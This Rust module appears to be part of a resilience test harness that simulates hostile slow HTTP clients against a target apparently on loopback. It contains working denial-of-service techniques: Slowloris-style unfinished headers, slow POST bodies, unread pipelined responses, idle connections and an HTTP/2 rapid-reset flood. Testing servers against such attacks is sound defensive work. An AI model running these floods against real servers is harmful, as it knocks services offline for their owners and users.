//! Slow HTTP clients: heads and bodies that do not come, answers that nobody takes, connections that nobody uses, and floods of HTTP/2.

use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use super::Target;
use super::associations::connect;

const ADDRESSES: u32 = 20;
/// Between two bytes of those who trickle.
const DRIP: Duration = Duration::from_millis(2000);
/// After an end.
const PAUSE: Duration = Duration::from_secs(1);

/// What it does, again and again, until it is cancelled.
pub(super) async fn run(number: u32, target: Target) {
    let cancel = target.cancel.clone();
    let again = async {
        loop {
            once(number, &target).await.ok();
            tokio::time::sleep(PAUSE).await;
        }
    };
    cancel.run_until_cancelled(again).await;
}

async fn once(number: u32, target: &Target) -> std::io::Result<()> {
    let from = [127, 0, 4, u8::try_from(number % ADDRESSES + 1).unwrap_or(1)];
    let page = number.is_multiple_of(10);
    let to = if page { target.page } else { target.http };
    let mut peer = connect(from, to).await?;
    target.begin(2);
    match number / 10 % 6 {
        // says nothing
        0 => end(&mut peer).await,
        // a head that does not end
        1 => {
            peer.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nx-slow: ")
                .await?;
            drip(peer, b"v").await;
        }
        // a body that does not come on
        2 => {
            let (path, kind) = match page {
                true => ("/sign-in", "application/x-www-form-urlencoded"),
                false => ("/api/v1/session", "application/json"),
            };
            let head = format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: {kind}\r\nContent-Length: 4000\r\n\r\n"
            );
            peer.write_all(head.as_bytes()).await?;
            drip(peer, b"{").await;
        }
        // many answers, none of which is taken
        3 => {
            let asked = b"GET /sign-in HTTP/1.1\r\nHost: x\r\n\r\n".repeat(200);
            peer.write_all(&asked).await?;
            let mut byte = [0];
            while peer.read(&mut byte).await? > 0 {
                tokio::time::sleep(DRIP).await;
            }
        }
        // asks once, and stays
        4 => {
            peer.write_all(b"GET /sign-in HTTP/1.1\r\nHost: x\r\n\r\n")
                .await?;
            end(&mut peer).await;
        }
        // streams of HTTP/2 that are opened and reset
        _ => {
            peer.write_all(&resets()).await?;
            end(&mut peer).await;
        }
    }
    Ok(())
}

async fn end(peer: &mut TcpStream) {
    let mut heard = [0; 4096];
    while matches!(peer.read(&mut heard).await, Ok(1..)) {}
}

/// The same byte again and again, until the connection ends.
async fn drip(peer: TcpStream, byte: &[u8]) {
    let (mut from, mut to) = peer.into_split();
    let mut heard = [0; 1024];
    let dripping = async {
        while to.write_all(byte).await.is_ok() {
            tokio::time::sleep(DRIP).await;
        }
    };
    let ending = async { while matches!(from.read(&mut heard).await, Ok(1..)) {} };
    tokio::select! {
        () = dripping => {}
        () = ending => {}
    }
}

/// A preface, and two thousand streams each of which is reset at once (RFC 9113, 6.2 and 6.4).
fn resets() -> Vec<u8> {
    let mut bytes =
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00".to_vec();
    for stream in (1..4000_u32).step_by(2) {
        bytes.extend([0, 0, 6, 1, 5]);
        bytes.extend(stream.to_be_bytes());
        bytes.extend([0x82, 0x86, 0x84, 0x01, 0x01, b'x']);
        bytes.extend([0, 0, 4, 3, 0]);
        bytes.extend(stream.to_be_bytes());
        bytes.extend([0, 0, 0, 8]);
    }
    bytes
}
